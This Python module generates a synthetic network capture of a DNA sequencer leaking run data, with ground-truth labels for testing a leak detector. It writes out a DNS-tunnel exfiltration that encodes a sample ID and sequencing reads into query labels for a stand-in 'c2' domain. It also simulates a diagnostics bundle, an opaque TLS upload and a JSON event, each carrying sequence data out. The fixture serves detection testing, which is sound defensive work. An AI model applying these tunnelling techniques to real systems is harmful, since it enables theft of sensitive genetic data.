"""The demo capture: one sequencer on a bench network, some of whose traffic leaks its run.

Each leg of the story is a flow the correlator must judge; ``Leg.expect`` is the ground truth the
tests and the README hold the report to. Addresses are documentation ranges only (RFC 5737 for the
internet, 10.20.0.0/24 for the bench) and names are RFC 2606/6761 ones: these are bytes in a file.
"""

from __future__ import annotations

import base64
import gzip
from dataclasses import asdict, dataclass, field
from pathlib import Path

import numpy as np

from sandbox.captures.writer import PcapngWriter, TcpConversation, udp

from . import wire
from .dna import revcomp
from .runfolder import sample_fastqs

INSTRUMENT = "10.20.0.5"
RESOLVER = "10.20.0.1"
T0 = 1763892000.0  # 2025-11-23T10:00:00Z, the run's date
PACKET_GAP = 0.0002  # seconds between packets of a flow: a fast LAN path
UPDATE_SIZE = 192 << 10  # the software update download (clean, inbound)
OPAQUE_SIZE = 128 << 10  # the encrypted upload to an unlisted host
BUNDLE_FASTQ_SHARE = 0.45  # how much of sample 1's FASTQ.gz the diagnostics bundle carries
DNS_READS = 3  # reads of sample 2 tunnelled out through DNS labels
DNS_BASES_PER_QUERY = 76  # 152 hex characters: three labels, a name well under 255 octets


@dataclass
class Leg:
    """One flow of the story and what a correct report says about it."""

    name: str
    flow: str
    destination: str
    expect: list[str]  # finding kinds the report must hold for this flow
    least: str = "info"  # every expected kind is at least this severe
    worst: str = "critical"  # no finding on this flow is more severe than this
    sample: str = ""
    file: str = ""  # run-relative path of the leaked file, when a file leaks
    notes: dict[str, object] = field(default_factory=dict)


class Bench:
    """Writes the instrument's conversations one after another on a shared clock."""

    def __init__(self, writer: PcapngWriter, t0: float = T0):
        self.w = writer
        self.t = t0
        self.next_port = 49152
        self.next_dns_id = 0x2A10

    def wait(self, seconds: float) -> None:
        self.t += seconds

    def resolve(self, name: str, address: str | None, sport: int = 0, port: int = 53) -> str:
        """A lookup through the bench resolver (query out, answer in); returns the UDP flow id.

        DNS is one flow per client and resolver, whatever the query's source port (RFC 5452).
        """
        ident, sport = self.next_dns_id, sport or self.port()
        self.next_dns_id += 1
        udp(self.w, (INSTRUMENT, sport), (RESOLVER, port), wire.dns_query(ident, name), t=self.t)
        self.t += 0.004
        udp(self.w, (RESOLVER, port), (INSTRUMENT, sport), wire.dns_answer(ident, name, address), t=self.t)
        self.t += 0.01
        return f"udp {INSTRUMENT}:* > {RESOLVER}:{port}"

    def connect(self, server: tuple[str, int]) -> TcpConversation:
        sport = self.port()
        return TcpConversation(self.w, (INSTRUMENT, sport), server, t0=self.t, dt=PACKET_GAP,
                               isn_client=sport * 7919, isn_server=sport * 104729)

    def exchange(self, conv: TcpConversation, request: bytes, response: bytes) -> None:
        conv.send(request)
        conv.t += 0.02  # server think time
        conv.send(response, from_client=False)
        self.t = conv.t

    def close(self, conv: TcpConversation) -> str:
        conv.close()
        self.t = conv.t + 0.5
        (c, cp), (s, sp) = conv.client, conv.server
        return f"tcp {c}:{cp} > {s}:{sp}"

    def port(self) -> int:
        """A fresh ephemeral source port."""
        self.next_port += 1
        return self.next_port


def make_demo_capture(run_dir: Path, out_path: Path, *, seed: int = 0) -> list[Leg]:
    """Write the demo pcapng for a simulated run and return its ground truth, leg by leg."""
    run_dir = Path(run_dir)
    rng = np.random.default_rng([seed, 4])
    fastqs = sample_fastqs(run_dir)
    samples = list(fastqs)
    if len(samples) < 3:
        raise ValueError(f"the demo story needs 3 samples, {run_dir} has {len(samples)}")
    legs: list[Leg] = []
    with PcapngWriter(out_path) as w:
        bench = Bench(w)
        legs.append(_lims(bench, 0))
        legs.append(_update(bench, rng))
        legs.append(_diagnostics(bench, run_dir, fastqs[samples[0]], samples[0]))
        legs.append(_dns_tunnel(bench, fastqs[samples[1]], samples[1]))
        legs.append(_opaque(bench, rng))
        legs.append(_single_read(bench, fastqs[samples[2]], samples[2]))
        legs.append(_lims(bench, 3))
    return legs


def _lims(bench: Bench, first: int) -> Leg:
    """Allow-listed LIMS: status heartbeats with no identifiers. Clean."""
    host, addr = "lims.lab.example", "198.51.100.10"
    bench.resolve(host, addr)
    conv = bench.connect((addr, 80))
    for beat in range(first, first + 3):
        status = {"state": "Running", "heartbeat": beat, "cycle": 12 + 40 * beat, "of_cycles": 167,
                  "flowcell_temp_c": 34.9, "chiller_temp_c": 5.1, "fluidics": "ok", "disk_free_gb": 611}
        bench.exchange(conv, wire.http_request("POST", "/api/v1/instruments/status", host, wire.json_bytes(status),
                                               content_type="application/json"),
                       wire.http_response(b'{"accepted":true}'))
        conv.t += 10.0
    return Leg("lims-heartbeat", bench.close(conv), host, [], worst="info")


def _update(bench: Bench, rng: np.random.Generator) -> Leg:
    """Software update download from the vendor: big, inbound, not run data. Clean."""
    host, addr = "updates.vendor.example", "192.0.2.80"
    bench.resolve(host, addr)
    conv = bench.connect((addr, 80))
    bench.exchange(conv, wire.http_request("GET", "/miseq/mcs/4.1.3/MCS_Update_4.1.3.pkg", host),
                   wire.http_response(rng.bytes(UPDATE_SIZE), content_type="application/octet-stream"))
    # an unlisted destination alone is low (DESIGN.md); the download itself is no evidence of anything
    return Leg("software-update", bench.close(conv), host, [], worst="low", notes={"bytes_in": UPDATE_SIZE})


def _diagnostics(bench: Bench, run_dir: Path, fastq: Path, sample: str) -> Leg:
    """Vendor diagnostics bundle: a tar.gz of logs that also sweeps up half a FASTQ.gz. Leak."""
    host, addr = "support.vendor.example", "203.0.113.50"
    blob = fastq.read_bytes()
    part = blob[: int(len(blob) * BUNDLE_FASTQ_SHARE)]
    rel = fastq.relative_to(run_dir).as_posix()
    bundle = wire.tar_gz([
        ("logs/RTALog_001.txt", b"".join(b"11/23/2025 10:%02d:00.000 RTA: cycle %d complete\r\n" % (c % 60, c)
                                         for c in range(1, 121))),
        ("config/MiSeqOverride.cfg", b"<Override><EnableSupportUpload>true</EnableSupportUpload></Override>\r\n"),
        (f"run/{rel}", part),
    ])
    body, ctype = wire.multipart([
        ("ticket", "", b"CS-20931", None),
        ("bundle", "diag_bundle_20251123.tar.gz", bundle, "application/gzip"),
    ], boundary="----MCSBoundary7MA4YWxkTrZu0gW")
    bench.resolve(host, addr)
    conv = bench.connect((addr, 80))
    bench.exchange(conv, wire.http_request("POST", "/api/v2/diagnostics/bundles", host, body, content_type=ctype),
                   wire.http_response(b'{"bundle_id":"b-58812","status":"received"}', "201 Created"))
    return Leg("diagnostics-bundle", bench.close(conv), host, ["run-bytes"], least="high", sample=sample, file=rel,
               notes={"bytes_leaked": len(part), "share_of_file": round(len(part) / len(blob), 3)})


def _dns_tunnel(bench: Bench, fastq: Path, sample: str) -> Leg:
    """A sample ID (base32) and reads (hex) in query labels to a made-up domain. Leak."""
    domain = "c2.telemetry-cache.test"
    tag = base64.b32encode(sample.encode()).decode().rstrip("=").lower()
    lines = gzip.decompress(fastq.read_bytes()).split(b"\n")
    reads = [s.decode() for s in lines[1::4][:DNS_READS]]
    sport = bench.port()  # one socket for the whole tunnel, as iodine / dnscat2 keep
    flows = [bench.resolve(f"{tag}.id.{domain}", "198.51.100.200", sport)]
    for n, read in enumerate(reads):
        for part in range(0, len(read), DNS_BASES_PER_QUERY):
            hexed = read[part:part + DNS_BASES_PER_QUERY].encode().hex()
            labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
            flows.append(bench.resolve(".".join([*labels, f"r{n}p{part // DNS_BASES_PER_QUERY}", tag, domain]),
                                       "198.51.100.200", sport))
            bench.wait(0.8)
    return Leg("dns-tunnel", flows[0], domain, ["dns-tunnel"], least="medium", sample=sample, notes={"queries": len(flows)})


def _opaque(bench: Bench, rng: np.random.Generator) -> Leg:
    """TLS to an unlisted host, then a steady upload nobody can read: opaque volume."""
    host, addr = "sync.cloudvault.example", "203.0.113.77"
    bench.resolve(host, addr)
    conv = bench.connect((addr, 443))
    c_random, s_random = rng.bytes(32), rng.bytes(32)
    conv.send(wire.client_hello(host, c_random, rng.bytes(32)))
    conv.t += 0.03
    conv.send(wire.server_hello(s_random, rng.bytes(32), c_random[::-1])
              + wire.tls_record(wire.TLS_APPDATA, rng.bytes(2900)), from_client=False)
    conv.send(wire.tls_record(wire.TLS_CCS, b"\x01") + wire.tls_record(wire.TLS_APPDATA, rng.bytes(53)))
    for _ in range(OPAQUE_SIZE // (32 << 10)):
        conv.send(wire.tls_record(wire.TLS_APPDATA, rng.bytes(32 << 10)))
        conv.send(wire.tls_record(wire.TLS_APPDATA, rng.bytes(40)), from_client=False)
        conv.t += 1.5
    bench.t = conv.t
    return Leg("opaque-upload", bench.close(conv), host, ["opaque-volume"], least="medium", notes={"bytes_out": OPAQUE_SIZE})


def _single_read(bench: Bench, fastq: Path, sample: str) -> Leg:
    """A "quality snapshot" event carrying one read, reverse-complemented. At least medium."""
    host, addr = "analytics.vendor.example", "198.51.100.77"
    lines = gzip.decompress(fastq.read_bytes()).split(b"\n")
    read = lines[1 + 4 * 7]  # the eighth read of the sample
    event = {"event": "quality_snapshot", "instrument_model": "MiSeq", "tile": 1101, "cycle": 151,
             "mean_q": 34.2, "example_sequence": revcomp(read).decode()}
    bench.resolve(host, addr)
    conv = bench.connect((addr, 80))
    bench.exchange(conv, wire.http_request("POST", "/v1/events", host, wire.json_bytes(event),
                                           content_type="application/json"), wire.http_response(b"{}", "202 Accepted"))
    return Leg("single-read-json", bench.close(conv), host, ["sequence"], least="medium", sample=sample)


def legs_json(legs: list[Leg]) -> list[dict]:
    return [asdict(leg) for leg in legs]
